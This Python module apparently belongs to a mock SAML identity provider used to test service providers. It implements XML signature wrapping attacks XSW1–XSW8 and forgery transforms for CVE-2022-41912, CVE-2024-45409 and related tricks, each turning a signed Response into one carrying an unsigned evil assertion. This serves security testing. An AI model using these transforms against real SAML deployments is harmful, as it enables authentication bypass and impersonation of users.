"""Signature wrapping and multiple-assertion transforms.

The layouts: docs/reference/attacks.md §2.2, §3 B and Appendix A.

Post-sign mutations of a signed Response, never re-signed. Each follows SAMLRaider's
`XSWHelpers.applyXSW1…8` order of operations; `ctx.new_id()` gives the evil IDs.
"""

from __future__ import annotations

import base64
import copy
import hashlib

from lxml import etree

from mock_idp.faults.edits import (
    assertion_of,
    detach,
    ds,
    evilize,
    find,
    first_signature,
    saml,
    samlp,
    signature_of,
    unsigned_copy,
)
from mock_idp.faults.model import Context
from mock_idp.protocol.xml import DS


def xsw1(root: etree._Element, ctx: Context) -> None:
    """D:R: a copy of the signed Response inside its own Signature; the evil root is read."""
    original = copy.deepcopy(root)
    detach(first_signature(original))
    evilize(root, ctx)
    first_signature(root).append(original)
    root.set("ID", ctx.new_id())


def xsw2(root: etree._Element, ctx: Context) -> None:
    """D:R: as XSW1, the copy placed just before the Signature instead of inside it."""
    original = copy.deepcopy(root)
    detach(first_signature(original))
    evilize(root, ctx)
    first_signature(root).addprevious(original)
    root.set("ID", ctx.new_id())


def _evil_twin(assertion: etree._Element, ctx: Context, *, new_id: bool = True) -> etree._Element:
    twin = unsigned_copy(assertion)
    evilize(twin, ctx)
    if new_id:
        twin.set("ID", ctx.new_id())
    return twin


def xsw3(root: etree._Element, ctx: Context) -> None:
    """An evil unsigned assertion (new ID) just before the signed one."""
    assertion = assertion_of(root)
    assertion.addprevious(_evil_twin(assertion, ctx))


def xsw4(root: etree._Element, ctx: Context) -> None:
    """The signed assertion moved inside an evil unsigned one."""
    assertion = assertion_of(root)
    evil = _evil_twin(assertion, ctx)
    root.append(evil)
    evil.append(assertion)


def xsw5(root: etree._Element, ctx: Context) -> None:
    """The evil assertion keeps the Signature; an unsigned original copy is appended."""
    assertion = assertion_of(root)
    original = unsigned_copy(assertion)
    evilize(assertion, ctx)
    root.append(original)
    assertion.set("ID", ctx.new_id())


def xsw6(root: etree._Element, ctx: Context) -> None:
    """As XSW5, the unsigned original hidden inside the evil assertion's Signature."""
    assertion = assertion_of(root)
    original = unsigned_copy(assertion)
    evilize(assertion, ctx)
    signature_of(assertion).append(original)
    assertion.set("ID", ctx.new_id())


def xsw7(root: etree._Element, ctx: Context, *, paper: bool = False) -> None:
    """An Extensions element (unqualified, or samlp: as in the paper) holding an evil twin
    that keeps the original ID, before the signed assertion."""
    assertion = assertion_of(root)
    extensions = etree.Element(samlp("Extensions") if paper else "Extensions")
    assertion.addprevious(extensions)
    extensions.append(_evil_twin(assertion, ctx, new_id=False))


def xsw7_paper(root: etree._Element, ctx: Context) -> None:
    xsw7(root, ctx, paper=True)


def xsw8(root: etree._Element, ctx: Context, *, paper: bool = False) -> None:
    """The assertion evil-edited in place (ID kept); the unsigned original inside an Object
    (unqualified, or ds: as in the paper) in its Signature."""
    assertion = assertion_of(root)
    original = unsigned_copy(assertion)
    evilize(assertion, ctx)
    holder = etree.SubElement(signature_of(assertion), ds("Object") if paper else "Object")
    holder.append(original)


def xsw8_paper(root: etree._Element, ctx: Context) -> None:
    xsw8(root, ctx, paper=True)


def append_unsigned(root: etree._Element, ctx: Context) -> None:
    """CVE-2022-41912: an unsigned evil copy (ID + "_attack") after the signed assertion."""
    assertion = assertion_of(root)
    evil = _evil_twin(assertion, ctx, new_id=False)
    evil.set("ID", f"{assertion.get('ID')}_attack")
    root.append(evil)


def prepend_unsigned(root: etree._Element, ctx: Context) -> None:
    """#18: the same copy inserted before the signed assertion."""
    assertion = assertion_of(root)
    evil = _evil_twin(assertion, ctx, new_id=False)
    evil.set("ID", f"{assertion.get('ID')}_attack")
    assertion.addprevious(evil)


def duplicate_id_first(root: etree._Element, ctx: Context) -> None:
    """#19: an evil unsigned copy keeping the same ID, placed first."""
    assertion = assertion_of(root)
    assertion.addprevious(_evil_twin(assertion, ctx, new_id=False))


def hidden_in_advice(root: etree._Element, ctx: Context) -> None:
    """#20: an evil outer assertion carrying the signed one in its Advice."""
    assertion = assertion_of(root)
    evil = _evil_twin(assertion, ctx)
    advice = etree.Element(saml("Advice"))
    find(evil, "saml:Conditions").addnext(advice)
    assertion.addprevious(evil)
    advice.append(assertion)


def stray_digest_value(root: etree._Element, ctx: Context) -> None:
    """CVE-2024-45409: the evil assertion's own digest in a StatusDetail, ahead of SignedInfo."""
    assertion = assertion_of(root)
    evilize(assertion, ctx)
    unsigned = unsigned_copy(assertion)
    canonical = etree.tostring(unsigned, method="c14n", exclusive=True, with_comments=False)
    detail = etree.SubElement(find(root, "samlp:Status"), samlp("StatusDetail"))
    stray = etree.SubElement(detail, ds("DigestValue"), nsmap={"ds": DS})
    stray.text = base64.b64encode(hashlib.sha256(canonical).digest()).decode()


def attribute_pollution(root: etree._Element, ctx: Context) -> None:
    """#22: a namespaced `saml:ID` with another value next to the assertion's `ID`."""
    assertion_of(root).set(saml("ID"), ctx.new_id())
